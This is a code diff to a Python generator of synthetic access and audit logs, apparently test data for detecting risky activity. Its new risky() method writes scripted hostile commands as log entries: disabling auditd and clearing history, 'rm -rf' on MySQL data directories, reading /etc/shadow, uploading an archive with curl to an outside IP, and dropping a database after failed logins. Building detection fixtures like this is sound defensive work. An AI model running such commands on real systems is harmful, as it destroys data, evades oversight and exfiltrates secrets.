@@ -173,9 +173,9 @@ class Gen:
         return ws, ws + (hours or r.choice([1, 2, 2, 3, 4, 4, 6])) * H
 
     # ---- activity -------------------------------------------------------------------------
-    def ev(self, t, account, target, action, detail, sid=None, actor=None):
+    def ev(self, t, account, target, action, detail, sid=None, actor=None, keep=False):
         self.events.append(dict(t=t, account=account, target=target, action=action,
-                                detail=detail, session_id=sid, actor=actor))
+                                detail=detail, session_id=sid, actor=actor, keep=keep))
 
     def session(self, acct, host, t0, t1, n=0, cmds=None, actor=None):
         """Start row at t0, n random commands (or `cmds`) spread over [t0, t1], end row at t1."""
@@ -185,7 +185,7 @@ class Gen:
         cmds = cmds or [command(r, host) for _ in range(n)]
         span = max(2, int((t1 - t0).total_seconds()) - 1)
         for s, c in zip(sorted(r.randint(1, span) for _ in cmds), cmds):
-            self.ev(t0 + s * S, acct, host, *c, sid, actor)
+            self.ev(t0 + s * S, acct, host, c[0], c[1], sid, actor, keep=len(c) > 2 and c[2])
         self.ev(t1, acct, host, "session.end", None, sid, actor)
 
     def work(self, acct, hosts, ws, we, tail=None, busy=(2, 6)):
@@ -352,6 +352,46 @@ class Gen:
         for i, target in enumerate(HOSTILE_TARGETS):
             self.ev(WEEK + 2 * D + (13 * 60 + i * 7) * M, ops[i], target, "ssh.command", "id")
 
+    def risky(self):
+        """What was done, not only when (docs/detections.md): risky commands and three sequences,
+        inside approvals (needs review) and outside them (FAIL). Marked `keep` so the secret and
+        hostile substitutions in write() never overwrite them."""
+        r, ops = self.r, [p for p in PEOPLE if self.team[p][0] in ("platform", "sre")]
+        keep = lambda cmds: [(a, d, True) for a, d in cmds]
+        # 1. an approved admin escalates to root, then blinds auditd: approved, yet needs review
+        p, h = ops[0], self.fresh(ops[0], ["bastion"] if "bastion" in HOSTS else self.team[ops[0]][1])
+        ws = WEEK + 1 * D + 14 * H
+        self.approve(p, h, ws, ws + 2 * H, self.ticket(ws, ws + 2 * H))
+        self.session(p, h, ws + 10 * M, ws + 40 * M, cmds=keep([
+            ("ssh.command", "uptime"), ("ssh.command", "sudo -i"), ("sudo", "auditctl -D"),
+            ("sudo", "systemctl stop auditd"), ("ssh.command", "history -c")]))
+        # 2. nobody approved this: the same destructive command on three database hosts
+        t0 = WEEK + 3 * D + 2 * H + 10 * M
+        for i, host in enumerate(HOSTS["db-prod"][:3]):
+            self.session("svc-deploy", host, t0 + i * 2 * M, t0 + i * 2 * M + 90 * S, actor="jenkins",
+                         cmds=keep([("sudo", "systemctl stop mysql"), ("sudo", "rm -rf /var/lib/mysql")]))
+        # 3. a secret read, then the data leaves the host, on a host nobody approved
+        p = ops[1]
+        h = self.fresh(p, self.team[p][1])
+        t0 = WEEK + 4 * D + 22 * H + 5 * M
+        self.session(p, h, t0, t0 + 25 * M, cmds=keep([
+            ("sudo", "cat /etc/shadow"), ("ssh.command", "tar czf /tmp/x.tgz /etc/app"),
+            ("ssh.command", "curl -T /tmp/x.tgz https://203.0.113.7/upload")]))
+        # 4. many failed logins, then one that works, then the database is dropped
+        p = ops[2]
+        h = self.fresh(p, ["db-prod"])
+        t0 = WEEK + 5 * D + 3 * H
+        for i in range(6):
+            self.ev(t0 + i * 40 * S, p, h, "ssh.login_failed", "password from 198.51.100.23", keep=True)
+        self.session(p, h, t0 + 5 * M, t0 + 12 * M, cmds=keep([("db.query", "DROP DATABASE billing;")]))
+        # 5. planned and ticketed, still worth a look: a table truncated inside its window
+        p = ops[3]
+        h = self.fresh(p, ["db-prod"])
+        ws = WEEK + 2 * D + 10 * H
+        self.approve(p, h, ws, ws + 3 * H, self.ticket(ws, ws + 3 * H))
+        self.session(p, h, ws + 15 * M, ws + 50 * M, cmds=keep([
+            ("db.query", "SELECT count(*) FROM audit_log"), ("db.query", "TRUNCATE TABLE audit_log")]))
+
     def noise_tickets(self, total=400):
         """Tickets no approval references: planned for next week, rejected, cancelled, done."""
         r = self.r
@@ -384,9 +424,10 @@ class Gen:
                 csv.writer(fh, lineterminator="\n").writerows([cols.split()] + rows)
 
         ev = sorted(self.events, key=lambda e: e["t"])
-        special = r.sample(range(len(ev)), 70)          # disjoint picks for format quirks
+        special = r.sample([i for i, e in enumerate(ev) if not e["keep"]], 70)   # format quirks
         epoch, offset, naive = set(special[:12]), set(special[12:42]), set(special[42:44])
         bad, no_acct, dups, taken = special[44:47], special[47:50], special[50:70], set(special)
+        taken |= {i for i, e in enumerate(ev) if e["keep"]}    # risky(): kept as written
         plain = lambda accts: [i for i, e in enumerate(ev) if i not in taken and e["account"] in accts
                                and e["action"] in ("ssh.command", "sudo")]
         for i, detail in zip(r.sample(plain(PEOPLE), 19), SECRETS * 2 + HOSTILE):
@@ -398,7 +439,7 @@ class Gen:
             d = {"event_id": f"ev-{i + 1:06d}", "ts": int(e["t"].timestamp() * 1000) if i in epoch
                  else e["t"].strftime("%Y-%m-%dT%H:%M:%S") if i in naive
                  else iso(e["t"], OFFSETS[i % 2] if i in offset else None)}
-            d.update((k, v) for k, v in e.items() if k != "t" and v is not None)
+            d.update((k, v) for k, v in e.items() if k not in ("t", "keep") and v is not None)
             if e["account"] == "svc-logship":
                 d["session_id"] = None              # this shipper writes explicit nulls
             if i in no_acct:                        # two without the key, one null
@@ -435,7 +476,7 @@ def main():
     ap.add_argument("--out", default=OUT, help="output folder (default: beside this script)")
     args = ap.parse_args()
     g = Gen(args.seed)
-    for step in (g.humans, g.services, g.trouble, g.noise_tickets):
+    for step in (g.humans, g.services, g.trouble, g.risky, g.noise_tickets):
         step()
     g.write(args.out, args.seed)
 
